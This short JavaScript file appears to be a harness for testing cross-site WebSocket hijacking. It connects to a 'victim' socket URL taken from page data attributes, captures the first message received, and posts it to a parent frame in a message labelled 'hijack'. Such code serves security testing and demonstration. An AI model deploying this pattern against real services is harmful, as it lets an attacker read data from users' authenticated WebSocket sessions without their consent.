'use strict';
const { victim, report } = document.body.dataset;
const socket = new WebSocket(victim);
const state = document.querySelector('output');
let got = null;
socket.addEventListener('message', ({ data }) => {
  got = data;
  state.textContent = `I got: ${data}`;
  socket.close(1000, 'thank you');
});
socket.addEventListener('close', ({ code }) => {
  if (got === null) state.textContent = `I got nothing: close code ${code}.`;
  parent.postMessage({ type: 'hijack', origin: self.origin, got, code }, report);
});
